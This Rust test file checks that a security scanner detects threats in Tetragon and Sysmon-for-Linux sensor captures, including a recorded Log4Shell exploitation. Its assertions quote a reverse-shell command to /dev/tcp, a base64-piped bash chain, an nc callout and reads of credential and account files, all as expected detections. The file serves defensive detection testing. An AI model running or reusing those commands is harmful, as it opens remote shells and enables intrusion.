//! Runtime sensor exports from the wild (issue 23, fixtures README sections 15-16):
//! Tetragon's `testdata/events.json` with the filter counts its `getevents_test.go` states,
//! the documentation's process lifecycle (a keystore read, nc calling out) and golden-signal
//! kprobe (a write to /etc/passwd) events, and a real Log4Shell exploitation seen by Sysmon
//! for Linux (OTRF Security-Datasets, exported from Microsoft Sentinel).

use serde_json::Value;

use crate::util::{run_json, shared, validate_against_schema};

const TETRAGON_DOCS: &str = "fixtures/tetragon/docs/security-observability-with-ebpf/03_chapter";

fn scan(path: &std::path::Path) -> Value {
    let (v, _) = run_json(&["scan", path.to_str().unwrap()]);
    validate_against_schema(&v);
    v["bundles"][0].clone()
}

/// The process records of every sensor capture of a bundle.
fn sensor_processes(b: &Value) -> Vec<Value> {
    b["processes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| {
            matches!(p["capture"]["format"].as_str(), Some("tetragon" | "sysmon" | "auditd" | "falco"))
        })
        .flat_map(|p| p["capture"]["processes"].as_array().unwrap().clone())
        .collect()
}

fn fact<'a>(b: &'a Value, rule: &str) -> &'a Value {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == rule))
        .unwrap_or_else(|| panic!("no fact with {rule}: {:#}", b["findings"]))
}

#[test]
#[ignore = "needs ../shared; CI runs it with --include-ignored"]
fn tetragon_testdata_events_give_getevents_test_filter_counts() {
    let b = scan(&shared("fixtures/tetragon/testdata/events.json"));
    assert_eq!(b["artifacts"][0]["kind"], "tetragon");
    assert!(b["diagnostics"].as_array().unwrap().is_empty(), "{:#}", b["diagnostics"]);
    let procs = sensor_processes(&b);
    // Each process_exec event's process is a record with its pod; its parent (the host's
    // containerd shim, no pod) is one too.
    let events: Vec<&Value> = procs.iter().filter(|p| p["extra"]["pod"].is_string()).collect();
    assert_eq!(events.len(), 3, "{procs:#?}");
    assert_eq!(procs.len(), 6);
    let count = |f: &dyn Fn(&Value) -> bool| events.iter().filter(|p| f(p)).count();
    let extra = |p: &Value, k: &str| p["extra"][k].as_str().unwrap_or("").to_string();
    // getevents_test.go: --namespaces default 3, --pods tiefighter 1, --pods deathstar 2,
    // --containers spaceship 1, --processes netserver 1, --processes docker 2.
    assert_eq!(count(&|p| extra(p, "namespace") == "default"), 3);
    assert_eq!(count(&|p| extra(p, "pod").contains("tiefighter")), 1);
    assert_eq!(count(&|p| extra(p, "pod").contains("deathstar")), 2);
    assert_eq!(count(&|p| p["container"]["name"] == "spaceship"), 1);
    assert_eq!(count(&|p| extra(p, "binary").contains("netserver")), 1);
    assert_eq!(count(&|p| extra(p, "binary").contains("docker")), 2);
    // All PROCESS_EXEC: each has its exec time, and its parent is the shim by exec id.
    for p in &events {
        assert!(p["started"].is_string(), "{p:#}");
        let parent = p["parent_exec_id"].as_str().unwrap();
        assert!(
            procs.iter().any(|q| q["exec_id"] == parent && q["exe"] == "containerd-shim-runc-v2"),
            "{p:#}"
        );
    }
    // Three containers named by the sensor, with their pods as Kubernetes labels.
    let pods: Vec<&str> = b["containers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["config"]["labels"]["io.kubernetes.pod.name"].as_str().unwrap())
        .collect();
    let mut pods = pods;
    pods.sort();
    assert_eq!(pods, ["deathstar-6f87496b94-gjf74", "deathstar-6f87496b94-qdlh8", "tiefighter"]);
    // Benign: nothing above low.
    let serious: Vec<&Value> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("medium" | "high" | "critical")))
        .collect();
    assert!(serious.is_empty(), "{serious:#?}");
}

#[test]
#[ignore = "needs ../shared; CI runs it with --include-ignored"]
fn tetragon_lifecycle_keystore_read_and_nc_callout() {
    let dir = shared(&format!("{TETRAGON_DOCS}/00_process_lifecycle"));
    let b = scan(&dir);
    let cred = fact(&b, "sensor.file.credential-read");
    assert_eq!(cred["severity"], "high");
    assert!(cred["summary"]
        .as_str()
        .unwrap()
        .contains("/usr/share/elasticsearch/config/elasticsearch.keystore"));
    assert_eq!(cred["owner"]["name"], "elasticsearch");
    assert_eq!(cred["when"]["time"], "2022-02-01T18:01:56.410000000Z");
    let nc = fact(&b, "sensor.connect.public");
    assert_eq!(nc["severity"], "high", "nc is a raw socket tool");
    assert!(nc["summary"].as_str().unwrap().contains("64.225.45.153:443"));
    let iocs: Vec<(&str, &str)> = nc["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["value"].as_str().unwrap(), i["role"].as_str().unwrap()))
        .collect();
    assert!(iocs.contains(&("64.225.45.153:443", "callback")), "{iocs:?}");
    let containers = b["containers"].as_array().unwrap();
    assert_eq!(containers.len(), 1);
    assert_eq!(containers[0]["config"]["labels"]["io.kubernetes.pod.name"], "elasticsearch-56f8fc6988-65smb");
    assert_eq!(containers[0]["id"], "e6af4dff4ea3b8d50313c59fbaa442e377da35671e79f43b8dc53c5efcc9b659");
    let verdict = &b["verdicts"].as_array().unwrap()[0];
    assert_eq!(verdict["status"], "compromised", "{verdict:#}");
    let attackers: Vec<&str> =
        b["iocs"].as_array().unwrap().iter().map(|i| i["value"].as_str().unwrap()).collect();
    assert!(attackers.contains(&"64.225.45.153"), "{attackers:?}");

    // The same events as one export (the files concatenated): one tree, by exec id,
    // bash -> sh lifecycle.sh -> cat and nc.
    let tmp = tempfile::tempdir().unwrap();
    let mut all = Vec::new();
    let mut names: Vec<_> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().path()).collect();
    names.sort();
    for n in names {
        all.extend(std::fs::read(n).unwrap());
        all.push(b'\n');
    }
    let export = tmp.path().join("export.json");
    std::fs::write(&export, all).unwrap();
    let b = scan(&export);
    assert_eq!(b["processes"].as_array().unwrap().len(), 1);
    let tree = &b["processes"][0]["tree"]["nodes"];
    let parent =
        |pid: u64| tree.as_array().unwrap().iter().find(|n| n["pid"] == pid).unwrap()["parent"].clone();
    assert_eq!(parent(38312), 24200, "sh lifecycle.sh under bash");
    assert_eq!(parent(38313), 38312, "cat under sh");
    assert_eq!(parent(38314), 38312, "nc under sh");
    assert!(b["diagnostics"].as_array().unwrap().is_empty(), "{:#}", b["diagnostics"]);
}

#[test]
#[ignore = "needs ../shared; CI runs it with --include-ignored"]
fn tetragon_golden_signal_kprobe_writes_etc_passwd() {
    let b = scan(&shared(&format!("{TETRAGON_DOCS}/00_four_golden_signals/process_kprobe.json")));
    let w = fact(&b, "sensor.file.account-write");
    assert!(w["summary"].as_str().unwrap().contains("vi wrote /etc/passwd"), "{w:#}");
    assert_eq!(w["owner"]["name"], "elasticsearch");
    assert_eq!(w["when"]["time"], "2021-10-18T20:08:55.567000000Z");
    assert_eq!(
        b["containers"][0]["config"]["labels"]["io.kubernetes.pod.name"],
        "elasticsearch-56f8fc6988-sh8rm"
    );
}

#[test]
#[ignore = "needs ../shared; CI runs it with --include-ignored"]
fn sysmon_for_linux_sees_the_log4shell_exploitation() {
    let zip = shared(
        "fixtures/Security-Datasets/datasets/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip",
    );
    let tmp = tempfile::tempdir().unwrap();
    let st = std::process::Command::new("unzip").arg("-q").arg(&zip).arg("-d").arg(tmp.path()).status();
    assert!(st.is_ok_and(|s| s.success()), "unzip of {} failed (is unzip installed?)", zip.display());
    let b = scan(tmp.path());
    assert_eq!(b["artifacts"][0]["kind"], "sysmon");
    let procs = sensor_processes(&b);
    let by_pid = |pid: u64| procs.iter().find(|p| p["pid"] == pid).unwrap_or_else(|| panic!("no pid {pid}"));
    // java (tomcat, login uid 1001) -> bash -c {echo,...}|{base64,-d}|{bash,-i} -> bash -i -> bash -i -> whoami
    let java = by_pid(1340);
    assert!(
        java["cmd"].as_str().unwrap().starts_with("/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java"),
        "{java:#}"
    );
    let bash = by_pid(17790);
    assert_eq!(bash["extra"]["Truncated"], "ParentCommandLine", "Sentinel cut bash's record inside it");
    assert_eq!(bash["ppid"], 1340);
    assert_eq!(bash["user"], "tomcat");
    assert_eq!(bash["extra"]["LogonId"], "1001");
    assert_eq!(bash["parent_exec_id"], java["exec_id"]);
    assert_eq!(
        bash["started"], "2022-05-11T18:10:21.998000000Z",
        "UtcTime; the record is stamped 18:10:22.003"
    );
    assert_eq!(by_pid(17794)["parent_exec_id"], bash["exec_id"]);
    let whoami = by_pid(17832);
    assert_eq!(whoami["cmd"], "whoami");
    assert_eq!(whoami["ppid"], 17806);
    assert_eq!(by_pid(17806)["ppid"], 17794);
    // The reverse shell, decoded, on the lineage java -> bash.
    let rev = fact(&b, "proc.revshell");
    assert_eq!(rev["severity"], "critical");
    assert!(rev["summary"].as_str().unwrap().contains("bash -i >& /dev/tcp/192.168.2.6/443 0>&1"), "{rev:#}");
    assert!(rev["rules"].as_array().unwrap().iter().any(|r| r == "proc.lineage.server-shell"), "{rev:#}");
    assert_eq!(rev["when"]["time"], "2022-05-11T18:10:21.998000000Z");
    // bash -i's own connection to the listener (Sysmon event 3).
    let conn = fact(&b, "sensor.connect.shell");
    assert!(conn["summary"].as_str().unwrap().contains("192.168.2.6:443"));
    assert_eq!(conn["when"]["time"], "2022-05-11T18:10:22.139000000Z");
    let ioc = b["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["value"] == "192.168.2.6")
        .expect("192.168.2.6 an IOC");
    assert_eq!(ioc["role"], "callback");
    let verdict = &b["verdicts"].as_array().unwrap()[0];
    assert_eq!(verdict["status"], "compromised", "{verdict:#}");
    assert!(b["chain"].as_array().unwrap().iter().any(|s| s["stage"] == "way in"), "{:#}", b["chain"]);
    assert!(b["diagnostics"].as_array().unwrap().is_empty(), "{:#}", b["diagnostics"]);
}
